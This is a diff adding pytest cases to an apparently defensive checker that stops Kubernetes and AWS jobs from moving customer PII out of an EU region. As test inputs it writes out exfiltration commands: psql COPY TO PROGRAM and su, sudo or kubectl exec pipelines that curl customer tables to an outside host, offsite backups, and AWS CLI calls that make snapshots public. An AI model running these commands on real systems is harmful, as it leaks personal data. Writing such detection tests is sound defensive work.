@@ -372,3 +372,308 @@ def test_a_download_whose_path_names_a_version_variable_names_no_destination() -
         region, "curl -fsSL https://releases.tool.example.com/$TOOL_VERSION/tool.tgz | tar xz && " + LOCAL
     )
     _allowed([*region.resources, job], job)
+
+
+# Command lines another program runs (reviewer blind-k8s13 k08) ---------------------------------------------
+
+COPY_OUT = (
+    "\\copy (SELECT * FROM customers) TO PROGRAM 'gzip | curl -sS -T - https://ingest.partner.example/c'"
+)
+NESTED = {
+    "psql \\copy to a program": f'psql -v ON_ERROR_STOP=1 -c "{COPY_OUT} WITH (FORMAT csv)"',
+    "server-side COPY to a program": (
+        "psql -c \"COPY customers TO PROGRAM 'curl -sS -T - https://ingest.partner.example/c'\""
+    ),
+    "a COPY whose program quotes a quote": (
+        "psql -c \"COPY customers TO PROGRAM 'curl -H ''X-Key: k'' -T - https://ingest.partner.example/c'\""
+    ),
+    "psql \\o to a pipe": (
+        "psql -c '\\o | curl -sS -T - https://ingest.partner.example/c' -c 'SELECT * FROM customers'"
+    ),
+    "su -c": f"su postgres -c '{DUMP} | curl -T - https://ingest.partner.example/c'",
+    "runuser -u ... --": f"{DUMP} | runuser -u nobody -- curl -T - https://ingest.partner.example/c",
+    "sudo -u": f"{DUMP} | sudo -u nobody curl -T - https://ingest.partner.example/c",
+    "xargs with valued options": (
+        "echo app | xargs -n 1 -P 2 sh -c '" + DUMP + ' "$0" | curl -T - https://ingest.partner.example/c\''
+    ),
+    "kubectl exec --": (
+        "kubectl exec -n app db-0 -- sh -c '" + DUMP + " | curl -T - https://ingest.partner.example/c'"
+    ),
+}
+
+
+@pytest.mark.parametrize("script", NESTED.values(), ids=list(NESTED))
+def test_a_command_line_another_program_runs_is_read_as_one(script: str) -> None:
+    region = eu_region()
+    job = _job(region, script)
+    found = _blocked([*region.resources, job], job)
+    assert "ingest.partner.example" in found and "outside AWS" in found
+
+
+def test_a_copy_to_a_program_in_the_exec_form_is_read() -> None:
+    region = eu_region()
+    job = _job(region, None, command=["psql", "--no-psqlrc", "-c", f"{COPY_OUT} WITH (FORMAT csv, HEADER)"])
+    assert "ingest.partner.example" in _blocked([*region.resources, job], job)
+
+
+def test_a_copy_to_a_program_in_a_heredoc_is_read() -> None:
+    region = eu_region()
+    job = _job(region, f"psql <<'SQL'\n{COPY_OUT} WITH (FORMAT csv)\nSQL\n")
+    assert "ingest.partner.example" in _blocked([*region.resources, job], job)
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        "psql -c \"\\copy (SELECT * FROM customers) TO PROGRAM 'gzip > /backup/customers.csv.gz'\"",
+        "psql -c \"COPY customers TO PROGRAM 'aws s3 cp - s3://dumps/c.csv --region eu-west-1'\"",
+        "su postgres -c 'pg_dump app > /backup/app.sql'",
+    ],
+    ids=["to a local file", "to a bucket of the region", "su writing locally"],
+)
+def test_a_nested_command_line_that_keeps_the_data_stays(script: str) -> None:
+    region = eu_region()
+    job = _job(region, script)
+    _allowed([*region.resources, job], job)
+
+
+# Backup tools that name a repository, not a URL (reviewer blind-k8s13 k07) ---------------------------------
+
+RESTIC = f"{DUMP} | restic backup --stdin --stdin-filename app.sql"
+
+
+@pytest.mark.parametrize(
+    ("repository", "shown"),
+    [
+        ("gs:offsite-dumps:/postgres", "Google Cloud Storage"),
+        ("b2:offsite-dumps:postgres", "Backblaze B2"),
+        ("azure:dumps:/postgres", "Azure Blob Storage"),
+        ("swift:dumps:/postgres", "OpenStack Swift"),
+        ("s3:s3.ap-south-1.amazonaws.com/dumps/postgres", "ap-south-1"),
+        ("s3:https://s3.wasabisys.com/dumps", "s3.wasabisys.com"),
+        ("s3:s3.amazonaws.com/dumps", "region"),
+        ("rest:https://backup.partner.example:8000/app", "backup.partner.example"),
+        ("sftp:backup@files.partner.example:/srv/restic", "files.partner.example"),
+    ],
+)
+def test_a_restic_repository_in_the_environment_is_where_the_backup_goes(repository: str, shown: str) -> None:
+    region = eu_region()
+    job = _job(region, RESTIC, env={"RESTIC_REPOSITORY": repository})
+    found = _blocked([*region.resources, job], job)
+    assert shown in found, found
+
+
+@pytest.mark.parametrize(
+    "script",
+    [
+        f"{DUMP} | restic -r gs:offsite-dumps:/postgres backup --stdin",
+        f"{DUMP} | restic --repo=gs:offsite-dumps:/postgres backup --stdin",
+        f"export RESTIC_REPOSITORY=gs:offsite-dumps:/pg\n{RESTIC}",
+        f"{DUMP} > /tmp/d.sql && borg create ssh://borg@vault.partner.example/./repo::app-{{now}} /tmp/d.sql",
+        f"{DUMP} > /tmp/d.sql && duplicity full /tmp gs://offsite-dumps/postgres",
+        f"{DUMP} > /tmp/d.sql && duplicity /tmp b2://key@offsite-dumps/postgres",
+        "kopia repository connect gcs --bucket offsite-dumps && " + f"{DUMP} | kopia snapshot create --stdin",
+    ],
+    ids=["restic -r", "restic --repo=", "restic variable", "borg", "duplicity gs", "duplicity b2", "kopia"],
+)
+def test_a_backup_repository_on_the_command_line_is_where_the_backup_goes(script: str) -> None:
+    region = eu_region()
+    job = _job(region, script)
+    found = _blocked([*region.resources, job], job)
+    assert "outside AWS" in found, found
+
+
+def test_a_restic_repository_nothing_names_fails_closed() -> None:
+    region = eu_region()
+    job = _job(region, RESTIC)
+    found = _blocked([*region.resources, job], job)
+    assert "RESTIC_REPOSITORY" in found and "cannot read" in found
+
+
+@pytest.mark.parametrize(
+    ("script", "env"),
+    [
+        (RESTIC, {"RESTIC_REPOSITORY": "s3:s3.eu-west-1.amazonaws.com/dumps/postgres"}),
+        (RESTIC, {"RESTIC_REPOSITORY": "/backup/restic"}),
+        (RESTIC, {"RESTIC_REPOSITORY": "rest:http://restic.backup.svc.cluster.local:8000/app"}),
+        (f"{DUMP} > /tmp/d.sql && borg create /backup/borg::app /tmp/d.sql", {}),
+        (f"{DUMP} > /tmp/d.sql && duplicity /tmp boto3+s3://dumps/postgres --s3-region-name eu-west-1", {}),
+        (
+            "kopia repository connect s3 --bucket dumps --region eu-west-1 && "
+            + f"{DUMP} | kopia snapshot create --stdin",
+            {},
+        ),
+    ],
+    ids=["restic s3 of the region", "restic local", "restic cluster", "borg", "duplicity", "kopia"],
+)
+def test_a_backup_repository_in_the_region_or_the_cluster_stays(script: str, env: dict[str, str]) -> None:
+    region = eu_region()
+    job = _job(region, script, env=env)
+    _allowed([*region.resources, job], job)
+
+
+# AWS CLI calls that share, copy or export (reviewer blind-k8s13 k06) ---------------------------------------
+
+SNAPSHOT = "aws rds create-db-snapshot --db-instance-identifier pii-db --db-snapshot-identifier share-1"
+
+
+@pytest.mark.parametrize(
+    ("call", "shown"),
+    [
+        (
+            "aws rds modify-db-snapshot-attribute --db-snapshot-identifier share-1 --attribute-name restore "
+            "--values-to-add all",
+            "every AWS account",
+        ),
+        (
+            "aws rds modify-db-snapshot-attribute --db-snapshot-identifier share-1 --attribute-name restore "
+            "--values-to-add 123456789012 999999999999",
+            "999999999999",
+        ),
+        (
+            "aws rds copy-db-snapshot --source-db-snapshot-identifier "
+            "arn:aws:rds:eu-west-1:123456789012:snapshot:share-1 --target-db-snapshot-identifier dr-1 "
+            "--region us-east-1",
+            "us-east-1",
+        ),
+        (
+            "aws ec2 copy-snapshot --source-snapshot-id snap-0123 --source-region eu-west-1 "
+            "--destination-region ap-south-1",
+            "ap-south-1",
+        ),
+        (
+            "aws ec2 modify-snapshot-attribute --snapshot-id snap-0123 --attribute createVolumePermission "
+            "--create-volume-permission 'Add=[{Group=all}]'",
+            "every AWS account",
+        ),
+        (
+            "aws kms create-grant --key-id alias/pii --grantee-principal arn:aws:iam::999999999999:role/x "
+            "--operations Decrypt",
+            "999999999999",
+        ),
+        (
+            "aws secretsmanager replicate-secret-to-regions --secret-id app --add-replica-regions "
+            "Region=us-east-1",
+            "us-east-1",
+        ),
+    ],
+    ids=[
+        "public",
+        "another account",
+        "copy into another region",
+        "ec2 copy",
+        "ec2 public",
+        "grant",
+        "replica",
+    ],
+)
+def test_an_aws_cli_call_that_shares_the_data_elsewhere_is_blocked(call: str, shown: str) -> None:
+    region = eu_region()
+    job = _job(region, f"{SNAPSHOT}\n{call}\n")
+    found = _blocked([*region.resources, job], job)
+    assert shown in found and "aws " in found, found
+
+
+def test_an_aws_cli_sharing_call_whose_destination_cannot_be_read_fails_closed() -> None:
+    region = eu_region()
+    job = _job(
+        region,
+        f"{SNAPSHOT}\naws rds modify-db-snapshot-attribute --db-snapshot-identifier share-1 "
+        '--attribute-name restore --values-to-add "$PARTNER_ACCOUNT"\n',
+    )
+    found = _blocked([*region.resources, job], job)
+    assert "$PARTNER_ACCOUNT" in found and "cannot read" in found
+
+
+def test_the_workloads_aws_region_places_an_aws_cli_copy() -> None:
+    region = eu_region()
+    job = _job(
+        region,
+        "aws rds copy-db-snapshot --source-db-snapshot-identifier share-1 --target-db-snapshot-identifier d",
+        env={"AWS_REGION": "us-east-1"},
+    )
+    assert "us-east-1" in _blocked([*region.resources, job], job)
+
+
+@pytest.mark.parametrize(
+    "call",
+    [
+        "aws rds copy-db-snapshot --source-db-snapshot-identifier share-1 --target-db-snapshot-identifier "
+        "share-2 --region eu-west-1",
+        "aws rds modify-db-snapshot-attribute --db-snapshot-identifier share-1 --attribute-name restore "
+        "--values-to-add 123456789012",
+        "aws rds describe-db-snapshots --db-snapshot-identifier share-1",
+        "aws rds wait db-snapshot-available --db-snapshot-identifier share-1",
+    ],
+    ids=["in-region copy", "own account", "describe", "wait"],
+)
+def test_an_aws_cli_call_that_keeps_the_data_in_the_region_and_account_stays(call: str) -> None:
+    region = eu_region()
+    job = _job(region, f"{SNAPSHOT}\n{call}\n")
+    _allowed([*region.resources, job], job)
+
+
+# Command lines unknown at preview, computed from the store (reviewer blind-k8s13 k20) ----------------------
+
+COMPUTED = "a script computed from outputs is unknown only at a first preview"
+
+
+@pytest.mark.preview_only(COMPUTED)
+@pytest.mark.parametrize(
+    ("command", "args"),
+    [
+        (["/bin/bash", "-c", UNKNOWN], None),
+        (["/bin/sh", "-c"], [UNKNOWN]),
+        (["python3", "-c", UNKNOWN], None),
+        (UNKNOWN, None),
+        (["/bin/sh"], UNKNOWN),
+    ],
+    ids=["bash -c script", "sh -c in args", "python -c", "the whole command", "the whole args"],
+)
+def test_a_script_computed_from_the_store_fails_closed(command: object, args: object) -> None:
+    region = eu_region()
+    job = _job(region, None, command=command)  # type: ignore[arg-type]
+    if args is not None:
+        job.props["spec"]["template"]["spec"]["containers"][0]["args"] = args
+    found = _blocked([*region.resources, job], job)
+    assert "unknown at preview" in found and "pii-db" in found and "command line" in found, found
+
+
+@pytest.mark.preview_only(COMPUTED)
+def test_a_script_an_unknown_variable_holds_fails_closed() -> None:
+    region = eu_region()
+    job = _job(region, '"$(SCRIPT)"', command=["/bin/sh", "-c"])
+    job.props["spec"]["template"]["spec"]["containers"][0]["env"].append({"name": "SCRIPT", "value": UNKNOWN})
+    found = _blocked([*region.resources, job], job)
+    assert "SCRIPT" in found and "unknown at preview" in found, found
+
+
+@pytest.mark.preview_only(COMPUTED)
+def test_an_argument_computed_from_the_store_is_only_its_address() -> None:
+    # `pg_dump -h <the database's address>`: a single value, the store's host, not a script.
+    region = eu_region()
+    job = _job(region, None, command=["pg_dump", "-h", UNKNOWN, "-f", "/backup/app.sql", "app"])
+    _allowed([*region.resources, job], job)
+
+
+@pytest.mark.preview_only(COMPUTED)
+def test_a_script_unknown_at_preview_computed_from_no_resident_store_stays() -> None:
+    # The Job reads the database through a Secret it takes its variables from; its script is computed from
+    # a bucket of internal data, not from the store.
+    region = eu_region()
+    tools = store(
+        region, "aws:s3/bucketV2:BucketV2", "tools", {"bucket": "tools"}, {"data-classification": "internal"}
+    )
+    connection = Res(
+        "kubernetes:core/v1:Secret",
+        "db-conn",
+        {"metadata": {"name": "db-conn", "namespace": "app"}, "stringData": {"PGHOST": UNKNOWN}},
+        region.kubernetes,
+        deps={"stringData": [region.database]},
+    )
+    job = _job(region, None, command=["/bin/sh", "-c", UNKNOWN])
+    job.deps = {"spec": [tools]}
+    container = job.props["spec"]["template"]["spec"]["containers"][0]
+    container["env"] = []
+    container["envFrom"] = [{"secretRef": {"name": "db-conn"}}]
+    _allowed([*region.resources, tools, connection, job], job)
